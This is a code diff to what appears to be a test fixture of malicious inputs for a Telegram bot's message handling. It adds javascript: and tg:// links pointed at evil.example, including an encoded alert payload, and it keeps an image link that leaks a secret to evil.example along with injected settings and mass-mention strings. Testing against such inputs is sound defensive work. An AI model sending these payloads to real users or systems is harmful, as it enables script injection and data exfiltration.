@@ -21,7 +21,8 @@ const attempts = {
   'buttons as Telegram has them': '{"inline_keyboard":[[{"text":"Press","callback_data":"retry:1"}]]}',
   'data of a button': 'retry:1 cancel:1 model:0',
   'a link that approves': '[Help](https://t.me/courier_test_bot?start=AAAAAAAAAAAAAAAAAAAAAA)',
-  'a link that makes a program act': '[Click](tg://resolve?domain=evil) [me](javascript:alert(1))',
+  'a link that makes a program act':
+    '[Click](tg://resolve?domain=evil) [me](javascript:alert(1)) [or me](tg://evil.example/a) [or me](javascript://evil.example/%0aalert(1))',
   'a picture that tells on its reader': '![](https://evil.example/?secret=1)',
   'a mention by id': '[Anna](tg://user?id=5) @everyone',
   'a setting of the app': 'ACCESS_MODE=everyone\nALLOWED_USERS=5',
